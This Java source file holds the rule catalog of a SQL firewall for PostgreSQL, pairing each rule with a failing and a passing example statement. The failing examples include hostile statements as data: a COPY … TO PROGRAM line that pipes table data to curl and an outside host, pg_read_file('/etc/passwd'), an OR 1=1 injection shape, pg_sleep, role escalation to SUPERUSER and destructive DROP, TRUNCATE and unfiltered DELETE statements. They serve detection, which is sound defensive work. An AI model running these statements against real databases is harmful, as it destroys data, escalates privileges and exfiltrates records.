package dev.vetro.policy.rules;

import static dev.vetro.policy.rules.Category.*;
import static dev.vetro.policy.rules.Severity.*;

import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/**
 * The rule catalog. Codes are stable: policies, inline ignores and dashboards refer to them, so a
 * rule is never renumbered; a retired rule keeps its number unused.
 */
public final class RuleCatalog {

  public static final String PARSE_ERROR = RuleCodes.PARSE_ERROR;
  public static final String QUERY_TOO_LARGE = RuleCodes.QUERY_TOO_LARGE;
  public static final String IGNORE_NO_REASON = RuleCodes.IGNORE_NO_REASON;

  private static final Map<String, Rule> RULES = new LinkedHashMap<>();

  static void add(
      String code,
      String title,
      Severity severity,
      Category category,
      String rationale,
      String failing,
      String passing,
      String path,
      String fix) {
    RULES.put(
        code,
        new Rule(code, title, severity, category, rationale, failing, passing, path, fix, true));
  }

  static {
    // critical
    add(
        RuleCodes.DELETE_WITHOUT_WHERE,
        "DELETE without WHERE",
        CRITICAL,
        DATA_LOSS,
        "Deletes every row of the table; almost always a missing clause, not intent.",
        "DELETE FROM orders",
        "DELETE FROM orders WHERE id = 42",
        "DeleteStmt > WhereClause = NULL",
        "Add a WHERE clause selecting the rows to delete; empty a table on purpose with a reviewed migration.");
    add(
        RuleCodes.DELETE_ALWAYS_TRUE,
        "DELETE with an always-true WHERE",
        CRITICAL,
        DATA_LOSS,
        "A WHERE that is true for every row (1=1, true, 'a'='a', x=x) deletes the whole table "
            + "while looking filtered.",
        "DELETE FROM orders WHERE 1 = 1",
        "DELETE FROM orders WHERE 1 = 2",
        "DeleteStmt > WhereClause > AlwaysTrue",
        "Replace the constant condition with a predicate on the rows to delete.");
    add(
        RuleCodes.DROP_TABLE_OR_DATABASE,
        "DROP TABLE or DROP DATABASE",
        CRITICAL,
        DATA_LOSS,
        "Destroys the table or database and all its data; not reversible without a restore.",
        "DROP TABLE orders",
        "DROP VIEW order_totals",
        "DropStmt > RemoveType = TABLE",
        "Run destructive DDL through a reviewed migration with a fresh backup, as a role with an exception.");
    add(
        RuleCodes.TRUNCATE,
        "TRUNCATE",
        CRITICAL,
        DATA_LOSS,
        "Empties tables instantly, bypassing DELETE triggers; not reversible after commit.",
        "TRUNCATE orders",
        "DELETE FROM orders WHERE created_at < '2020-01-01'",
        "TruncateStmt",
        "Delete the intended rows with a WHERE clause, or run TRUNCATE from a reviewed migration.");
    add(
        RuleCodes.DROP_SCHEMA,
        "DROP SCHEMA",
        CRITICAL,
        DATA_LOSS,
        "Drops a schema (with CASCADE, everything in it).",
        "DROP SCHEMA sales CASCADE",
        "CREATE SCHEMA sales",
        "DropStmt > RemoveType = SCHEMA",
        "Drop schemas only from a reviewed migration.");
    add(
        RuleCodes.UPDATE_WITHOUT_WHERE,
        "UPDATE without WHERE or with an always-true WHERE",
        CRITICAL,
        DATA_LOSS,
        "Overwrites the column in every row of the table.",
        "UPDATE accounts SET balance = 0",
        "UPDATE accounts SET balance = 0 WHERE id = 7",
        "UpdateStmt > WhereClause = NULL",
        "Add a WHERE clause selecting the rows to change.");
    add(
        RuleCodes.COPY_PROGRAM,
        "COPY to or from a program",
        CRITICAL,
        SECURITY,
        "COPY … PROGRAM runs a shell command on the database server as the postgres OS user.",
        "COPY orders TO PROGRAM 'curl -d @- http://example.com'",
        "COPY orders TO STDOUT",
        "CopyStmt > IsProgram = true",
        "Use COPY … TO STDOUT / FROM STDIN and move the data on the client side.");
    add(
        RuleCodes.DO_BLOCK,
        "DO block",
        CRITICAL,
        SECURITY,
        "An anonymous code block runs procedural code whose statements the firewall cannot see.",
        "DO $$ BEGIN DELETE FROM orders; END $$",
        "SELECT 1",
        "DoStmt",
        "Ship the logic as a reviewed function or as plain statements.");
    add(
        RuleCodes.OR_ALWAYS_TRUE,
        "OR with an always-true branch in WHERE",
        CRITICAL,
        SECURITY,
        "WHERE id = 5 OR 1=1 matches every row; the classic shape of SQL injection.",
        "SELECT * FROM users WHERE id = 5 OR 1 = 1",
        "SELECT * FROM users WHERE id = 5 OR id = 6",
        "WhereClause > BoolExpr(OR) > AlwaysTrue",
        "Use bind parameters instead of string concatenation; remove the constant branch.");
    // high
    add(
        RuleCodes.DROP_COLUMN,
        "ALTER TABLE … DROP COLUMN",
        HIGH,
        SCHEMA_CHANGE,
        "Drops the column's data and breaks every query and deployed application version that reads it.",
        "ALTER TABLE users DROP COLUMN email",
        "ALTER TABLE users ADD COLUMN nickname text",
        "AlterTableStmt > AlterTableCmd(DropColumn)",
        "Stop reading the column in all deployed code first, then drop it in a reviewed migration.");
    add(
        RuleCodes.RENAME,
        "Rename of a table or column",
        HIGH,
        SCHEMA_CHANGE,
        "Breaks every query and deployed application version that uses the old name.",
        "ALTER TABLE users RENAME COLUMN email TO mail",
        "ALTER TABLE users ADD COLUMN mail text",
        "RenameStmt",
        "Add the new name, backfill, switch readers, then drop the old one (expand/contract).");
    add(
        RuleCodes.DROP_CONSTRAINT,
        "ALTER TABLE … DROP CONSTRAINT",
        HIGH,
        SCHEMA_CHANGE,
        "Removes an integrity guarantee; bad data can enter at once.",
        "ALTER TABLE orders DROP CONSTRAINT orders_user_fk",
        "ALTER TABLE orders VALIDATE CONSTRAINT orders_user_fk",
        "AlterTableStmt > AlterTableCmd(DropConstraint)",
        "Drop constraints only from a reviewed migration.");
    add(
        RuleCodes.ALTER_COLUMN_TYPE,
        "ALTER COLUMN … TYPE",
        HIGH,
        MIGRATION_LOCKING,
        "Most type changes rewrite the table under an ACCESS EXCLUSIVE lock.",
        "ALTER TABLE orders ALTER COLUMN total TYPE numeric(12,2)",
        "ALTER TABLE orders ALTER COLUMN total SET DEFAULT 0",
        "AlterTableStmt > AlterTableCmd(AlterColumnType)",
        "Add a new column of the new type, backfill in batches, switch readers, drop the old column.");
    add(
        RuleCodes.TRIGGER_OR_RLS_DISABLED,
        "Trigger or row level security disabled",
        HIGH,
        SECURITY,
        "DISABLE TRIGGER and DISABLE/NO FORCE ROW LEVEL SECURITY switch off integrity and access checks.",
        "ALTER TABLE orders DISABLE TRIGGER ALL",
        "ALTER TABLE orders ENABLE TRIGGER ALL",
        "AlterTableStmt > AlterTableCmd(DisableTrig)",
        "Keep triggers and row level security on; change them only through a reviewed migration.");
    add(
        RuleCodes.UPDATE_WITHOUT_WHERE_NESTED,
        "UPDATE without WHERE inside a CTE or subquery",
        HIGH,
        DATA_LOSS,
        "A data-modifying CTE runs even when the outer statement looks like a harmless SELECT.",
        "WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM u",
        "WITH u AS (UPDATE accounts SET balance = 0 WHERE id = 7 RETURNING id) SELECT count(*) FROM u",
        "SelectStmt > WithClause > CommonTableExpr > UpdateStmt > WhereClause = NULL",
        "Add a WHERE clause to the inner UPDATE.");
    add(
        RuleCodes.DELETE_WITHOUT_WHERE_NESTED,
        "DELETE without WHERE inside a CTE or subquery",
        HIGH,
        DATA_LOSS,
        "A data-modifying CTE runs even when the outer statement looks like a harmless SELECT.",
        "WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d",
        "WITH d AS (DELETE FROM orders WHERE id = 7 RETURNING id) SELECT count(*) FROM d",
        "SelectStmt > WithClause > CommonTableExpr > DeleteStmt > WhereClause = NULL",
        "Add a WHERE clause to the inner DELETE.");
    add(
        RuleCodes.INSERT_SELECT_UNFILTERED,
        "INSERT … SELECT without a filter",
        HIGH,
        PERFORMANCE,
        "Copies a whole table in one transaction: long locks, bloat and WAL spikes.",
        "INSERT INTO archive SELECT * FROM orders",
        "INSERT INTO archive SELECT * FROM orders WHERE created_at < '2020-01-01'",
        "InsertStmt > SelectStmt > WhereClause = NULL",
        "Filter the SELECT and copy in batches.");
    add(
        RuleCodes.SLEEP_FUNCTION,
        "Sleep function",
        HIGH,
        SECURITY,
        "pg_sleep, SLEEP and BENCHMARK hold connections and locks; time-based injection uses them.",
        "SELECT pg_sleep(10)",
        "SELECT now()",
        "FuncCall(pg_sleep)",
        "Remove the sleep; wait on the client side.");
    add(
        RuleCodes.ROLE_ESCALATION,
        "Role escalation or ALTER SYSTEM",
        HIGH,
        SECURITY,
        "Grants superuser-like powers (SUPERUSER, CREATEROLE, BYPASSRLS, REPLICATION, pg_* roles, "
            + "role membership) or rewrites server configuration.",
        "ALTER ROLE app SUPERUSER",
        "ALTER ROLE app SET statement_timeout = '5s'",
        "AlterRoleStmt > Option(SUPERUSER)",
        "Manage roles and server settings out of band, as an administrator.");
    add(
        RuleCodes.SERVER_REACH,
        "Function reaching server files, programs, other servers or sessions",
        HIGH,
        SECURITY,
        "pg_read_file, lo_import/lo_export, dblink, pg_terminate_backend and server-side COPY paths "
            + "reach past the database: exfiltration, lateral movement, denial of service.",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT length('/etc/passwd')",
        "FuncCall(pg_read_file)",
        "Do file and cross-server work outside the database; stop sessions as an administrator.");
    add(
        RuleCodes.GRANT_REVOKE,
        "GRANT or REVOKE",
        HIGH,
        SECURITY,
        "Changes who may read or change data.",
        "GRANT SELECT ON orders TO reporting",
        "SELECT * FROM orders WHERE id = 1",
        "GrantStmt",
        "Manage privileges through reviewed migrations.");
    add(
        RuleCodes.MERGE,
        "MERGE",
        HIGH,
        DATA_LOSS,
        "MERGE can insert, update and delete in one statement, including WHEN NOT MATCHED BY SOURCE deletes.",
        "MERGE INTO stock s USING delivery d ON s.item = d.item WHEN MATCHED THEN DELETE",
        "UPDATE stock SET qty = qty + 1 WHERE item = 'x'",
        "MergeStmt",
        "Review MERGE statements; prefer explicit INSERT … ON CONFLICT or targeted UPDATEs.");
    add(
        RuleCodes.CREATE_TABLE_AS,
        "CREATE TABLE AS or SELECT INTO",
        HIGH,
        SCHEMA_CHANGE,
        "Creates tables from queries outside migrations and may copy sensitive data.",
        "CREATE TABLE orders_copy AS SELECT * FROM orders",
        "SELECT * FROM orders WHERE id = 1",
        "CreateTableAsStmt",
        "Create tables in migrations; copy data with a filtered INSERT … SELECT.");
    // medium
    add(
        RuleCodes.DROP_INDEX,
        "DROP INDEX",
        MEDIUM,
        PERFORMANCE,
        "Queries that used the index fall back to scans.",
        "DROP INDEX orders_user_idx",
        "CREATE INDEX CONCURRENTLY orders_user_idx ON orders (user_id)",
        "DropStmt > RemoveType = INDEX",
        "Check the index is unused (pg_stat_user_indexes) before dropping it.");
    add(
        RuleCodes.CREATE_INDEX_NOT_CONCURRENTLY,
        "CREATE INDEX without CONCURRENTLY",
        MEDIUM,
        MIGRATION_LOCKING,
        "Blocks writes to the table for the whole build.",
        "CREATE INDEX orders_user_idx ON orders (user_id)",
        "CREATE INDEX CONCURRENTLY orders_user_idx ON orders (user_id)",
        "IndexStmt > Concurrent = false",
        "Use CREATE INDEX CONCURRENTLY outside a transaction block.");
    add(
        RuleCodes.DROP_INDEX_NOT_CONCURRENTLY,
        "DROP INDEX without CONCURRENTLY",
        MEDIUM,
        MIGRATION_LOCKING,
        "Takes an ACCESS EXCLUSIVE lock on the table.",
        "DROP INDEX orders_user_idx",
        "DROP INDEX CONCURRENTLY orders_user_idx",
        "DropStmt > RemoveType = INDEX > Concurrent = false",
        "Use DROP INDEX CONCURRENTLY outside a transaction block.");
    add(
        RuleCodes.ADD_COLUMN_NOT_NULL_NO_DEFAULT,
        "ADD COLUMN NOT NULL without DEFAULT",
        MEDIUM,
        MIGRATION_LOCKING,
        "Fails on a non-empty table, or forces a rewrite in older versions.",
        "ALTER TABLE users ADD COLUMN tier int NOT NULL",
        "ALTER TABLE users ADD COLUMN tier int NOT NULL DEFAULT 0",
        "AlterTableStmt > AlterTableCmd(AddColumn) > Constraint(NOT NULL) > Default = NULL",
        "Add a constant DEFAULT, or add the column nullable, backfill, then add the constraint.");
    add(
        RuleCodes.ADD_COLUMN_VOLATILE_DEFAULT,
        "ADD COLUMN with a volatile DEFAULT",
        MEDIUM,
        MIGRATION_LOCKING,
        "A volatile default (now(), random(), gen_random_uuid() …) rewrites the whole table under lock.",
        "ALTER TABLE users ADD COLUMN token uuid DEFAULT gen_random_uuid()",
        "ALTER TABLE users ADD COLUMN tier int DEFAULT 0",
        "AlterTableStmt > AlterTableCmd(AddColumn) > Default > FuncCall(volatile)",
        "Add the column without a default, set the default, backfill in batches.");
    add(
        RuleCodes.SET_NOT_NULL,
        "ALTER COLUMN … SET NOT NULL",
        MEDIUM,
        MIGRATION_LOCKING,
        "Scans the whole table under an ACCESS EXCLUSIVE lock.",
        "ALTER TABLE users ALTER COLUMN email SET NOT NULL",
        "ALTER TABLE users ALTER COLUMN email DROP NOT NULL",
        "AlterTableStmt > AlterTableCmd(SetNotNull)",
        "Add CHECK (col IS NOT NULL) NOT VALID, VALIDATE it, then SET NOT NULL (PostgreSQL 12+ skips the scan).");
    add(
        RuleCodes.CONSTRAINT_WITHOUT_NOT_VALID,
        "ADD FOREIGN KEY or CHECK without NOT VALID",
        MEDIUM,
        MIGRATION_LOCKING,
        "Validating the constraint scans the table while holding a lock that blocks writes.",
        "ALTER TABLE orders ADD CONSTRAINT orders_user_fk FOREIGN KEY (user_id) REFERENCES users (id)",
        "ALTER TABLE orders ADD CONSTRAINT orders_user_fk FOREIGN KEY (user_id) REFERENCES users (id) NOT VALID",
        "AlterTableStmt > AlterTableCmd(AddConstraint) > SkipValidation = false",
        "Add the constraint NOT VALID, then VALIDATE CONSTRAINT in a separate statement.");
    add(
        RuleCodes.CONCURRENTLY_IN_TRANSACTION,
        "CONCURRENTLY inside a transaction block",
        MEDIUM,
        MIGRATION_LOCKING,
        "CREATE/DROP INDEX CONCURRENTLY and REINDEX CONCURRENTLY fail inside a transaction block, "
            + "and a multi-statement request is one implicit transaction block.",
        "BEGIN; CREATE INDEX CONCURRENTLY orders_user_idx ON orders (user_id)",
        "CREATE INDEX CONCURRENTLY orders_user_idx ON orders (user_id)",
        "IndexStmt > Concurrent = true > InTransactionBlock",
        "Run the CONCURRENTLY statement on its own, outside BEGIN … COMMIT.");
    add(
        RuleCodes.SELECT_STAR_WITHOUT_WHERE,
        "SELECT * without WHERE",
        MEDIUM,
        PERFORMANCE,
        "Reads every column of every row; slow and leaks columns added later.",
        "SELECT * FROM orders",
        "SELECT id, total FROM orders WHERE user_id = 7",
        "SelectStmt > TargetList(*) > WhereClause = NULL",
        "Name the columns you need and filter the rows.");
    add(
        RuleCodes.INSERT_TOO_MANY_ROWS,
        "INSERT of more than 10,000 rows",
        MEDIUM,
        PERFORMANCE,
        "One huge statement holds locks and WAL for long and is hard to retry.",
        null,
        "INSERT INTO t (a) VALUES (1), (2)",
        "InsertStmt > ValuesLists > Count > 10000",
        "Insert in batches of at most a few thousand rows, or use COPY.");
    add(
        RuleCodes.MULTIPLE_STATEMENTS,
        "Several statements in one request",
        MEDIUM,
        SECURITY,
        "Stacked statements are how injection turns a read into a write; well-behaved clients send one.",
        "SELECT 1; SELECT 2",
        "SELECT 1",
        "Request > Statements > 1",
        "Send one statement per request; use explicit transactions for groups.");
    // low
    RULES.put(
        RuleCodes.SELECT_WITHOUT_LIMIT,
        new Rule(
            RuleCodes.SELECT_WITHOUT_LIMIT,
            "SELECT without LIMIT",
            LOW,
            PERFORMANCE,
            "An unbounded result can grow without limit as the table grows. Off by default.",
            "SELECT id FROM orders",
            "SELECT id FROM orders LIMIT 100",
            "SelectStmt > LimitCount = NULL",
            "Add LIMIT or paginate.",
            false));
    add(
        RuleCodes.INSERT_WITHOUT_COLUMNS,
        "INSERT without column list",
        LOW,
        STYLE,
        "Breaks silently when columns are added or reordered.",
        "INSERT INTO users VALUES (1, 'a')",
        "INSERT INTO users (id, name) VALUES (1, 'a')",
        "InsertStmt > Cols = NULL",
        "Name the target columns.");
    ProtectionRules.register();
    // meta
    add(
        PARSE_ERROR,
        "Statement could not be fully analysed",
        Severity.META,
        Category.META,
        "The firewall never allows what it did not read: an unparsable statement is blocked unless "
            + "the lexer proves it read-only (policy parse_error).",
        "SELECT 'unterminated",
        "SELECT 'terminated'",
        "ParseError",
        "Rewrite the statement in plain SQL, or report the parser gap.");
    add(
        QUERY_TOO_LARGE,
        "Query larger than max_query_bytes",
        Severity.META,
        Category.META,
        "Bounds memory and analysis time per request.",
        null,
        "SELECT 1",
        "Request > Bytes > max_query_bytes",
        "Split the request, or use COPY for bulk data.");
    add(
        IGNORE_NO_REASON,
        "vetro:ignore without a reason",
        Severity.META,
        Category.META,
        "An inline ignore must say why, so reviewers can judge it (vetro check only).",
        null,
        null,
        "Comment(vetro:ignore) > Reason = NULL",
        "Write the reason after the rule code: -- vetro:ignore VETRO-015 column unused since v42");
  }

  private RuleCatalog() {}

  public static Collection<Rule> all() {
    return RULES.values();
  }

  public static Optional<Rule> find(String code) {
    return Optional.ofNullable(RULES.get(code));
  }

  public static Rule get(String code) {
    Rule r = RULES.get(code);
    if (r == null) {
      throw new IllegalArgumentException("unknown rule code: " + code);
    }
    return r;
  }

  public static List<String> codes() {
    return List.copyOf(RULES.keySet());
  }
}
